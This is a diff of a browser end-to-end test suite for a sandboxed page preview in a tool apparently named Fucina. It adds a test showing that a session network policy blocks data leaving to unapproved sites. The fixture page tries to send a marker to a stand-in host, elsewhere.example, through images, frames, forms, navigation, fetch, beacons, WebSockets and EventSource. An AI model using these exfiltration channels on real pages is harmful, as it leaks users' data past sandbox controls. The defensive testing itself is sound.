@@ -1,7 +1,7 @@
 import { createOutboundHttp, type OutboundHttp, systemAmbient } from '@fucina/shared';
 import { redirectOrigins } from '@fucina/testkit';
 import { afterAll, beforeAll, expect } from '@jest/globals';
-import type { Browser } from 'playwright-core';
+import type { Browser, FrameLocator, Page } from 'playwright-core';
 import { html, type Site, startSite } from './browser-fixture.ts';
 import { type TestServer, testServer } from './harness.ts';
 import { faults, fitsWindow, launchBrowser, openView, type Visit, visit, WINDOW_FOLDER, walk } from './window-visit.ts';
@@ -20,6 +20,21 @@ const PRYING = `<p id="pried">wait</p><script>
   })();
 </script>`;
 
+/** Sends what it knows to another site, in every way that a page has, and uses one that is allowed. */
+const LEAVING = `<p id="state">wait</p><img src="https://elsewhere.example/image?known">
+  <script src="https://allowed.example/script.js"></script><iframe name="inner" src="https://elsewhere.example/frame?known"></iframe>
+  <form id="form" method="post" action="https://elsewhere.example/form"><input name="known" value="1">
+  <button>Send</button></form><button onclick="location.href = 'https://elsewhere.example/?known'">Leave</button>
+  <script>
+    (async () => {
+      await fetch('https://elsewhere.example/fetch?known', { mode: 'no-cors' }).catch(() => undefined);
+      navigator.sendBeacon('https://elsewhere.example/beacon', 'known');
+      try { new WebSocket('wss://elsewhere.example/socket?known') } catch {}
+      try { new EventSource('https://elsewhere.example/events?known') } catch {}
+      document.getElementById('state').textContent = window.allowed + ', tried';
+    })();
+  </script>`;
+
 let site: Site;
 let http: OutboundHttp;
 let server: TestServer;
@@ -36,6 +51,8 @@ beforeAll(async () => {
     '/next': html(page('Next', '<p>The next page</p>')),
     '/data': (response) => void response.writeHead(200, { 'content-type': 'application/json' }).end('{}'),
     '/denied': html(page('Oil', '<p>Cool it in oil.</p>'), { 'x-frame-options': 'DENY' }),
+    '/leaving?Send': html(page('Leaving', LEAVING)),
+    '/leaving?Leave': html(page('Leaving', LEAVING)),
     '/open': html(page('Open', '<p>Steel for reading.</p>')),
   });
   http = createOutboundHttp({ ambient: systemAmbient('silent') });
@@ -58,6 +75,9 @@ async function enter(options: Parameters<typeof visit>[1] = {}): Promise<Visit> 
   return place;
 }
 
+/** A page of this computer: a frame in the one that limits where it leads. */
+const framed = (window: Page): FrameLocator => window.frameLocator('iframe.page-frame').frameLocator('iframe');
+
 async function open(place: Visit, url: string): Promise<void> {
   await place.page.getByRole('textbox', { name: 'Page address' }).fill(url);
   await place.page.keyboard.press('Enter');
@@ -68,7 +88,7 @@ walk('shows a development server sandboxed and adds an element to the draft', as
   const { page: window, complaints } = place;
   expect(await faults(window)).toEqual([]);
   await open(place, `127.0.0.1:${site.port}`);
-  const frame = window.frameLocator('iframe.page-frame');
+  const frame = framed(window);
   await frame.getByText('no cookie, no parent, no answer').waitFor();
   for (const { rawHeaders } of site.asked) expect(rawHeaders.join('\n')).not.toContain('svc_token');
   expect(await faults(window)).toEqual([]);
@@ -103,6 +123,30 @@ walk('shows a development server sandboxed and adds an element to the draft', as
   expect(complaints).toEqual([]);
 });
 
+walk('keeps a page of this computer from sites that the network policy does not allow, and names them', async () => {
+  await using place = await enter();
+  const { page: window } = place;
+  const reached: string[] = [];
+  await window.context().route(/^(?:https|wss):/, (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ contentType: 'text/javascript', body: 'window.allowed = "allowed"' });
+  });
+  await server.call('POST', '/ext/sandbox/rules', { body: { regola: 'Network(allowed.example)', sessionId: session } });
+  for (const [button, complaint] of [
+    ['Send', /^Sending form data .* violates .* "form-action /],
+    ['Leave', /^Framing .* violates .* "frame-src 'self' /],
+  ] as const) {
+    await open(place, `${site.url}/leaving?${button}`);
+    await framed(window).getByText('allowed, tried').waitFor();
+    await window.getByText('Blocked by this session’s network policy: elsewhere.example.').waitFor();
+    expect(await faults(window)).toEqual([]);
+    const stopped = window.waitForEvent('console', (line) => complaint.test(line.text()));
+    await framed(window).getByRole('button', { name: button }).click();
+    await stopped;
+  }
+  expect([...new Set(reached)]).toEqual(['https://allowed.example/script.js']);
+});
+
 walk('reports a response that is not a page and retries', async () => {
   await using place = await enter();
   const { page: window, complaints } = place;
@@ -113,7 +157,7 @@ walk('reports a response that is not a page and retries', async () => {
   expect(await faults(window)).toEqual([]);
   site.pages['/data'] = html(page('Data', '<p>Now a page</p>'));
   await window.getByRole('button', { name: 'Try again' }).click();
-  await window.frameLocator('iframe.page-frame').getByText('Now a page').waitFor();
+  await framed(window).getByText('Now a page').waitFor();
   await open(place, server.url);
   await window.getByText('Fucina cannot be shown inside itself').waitFor();
   await open(place, 'https://10.0.0.1/');
@@ -150,7 +194,7 @@ walk('works narrow, dark and in Italian', async () => {
   );
   const { page: window, complaints } = place;
   await window.goto(new URL(`/sessions/${session}/page?url=${encodeURIComponent(site.url)}`, server.url).href);
-  await window.frameLocator('iframe.page-frame').getByRole('heading', { name: 'Forge' }).waitFor();
+  await framed(window).getByRole('heading', { name: 'Forge' }).waitFor();
   await window.getByRole('button', { name: 'Seleziona un elemento' }).waitFor();
   await fitsWindow(window);
   expect(await faults(window)).toEqual([]);
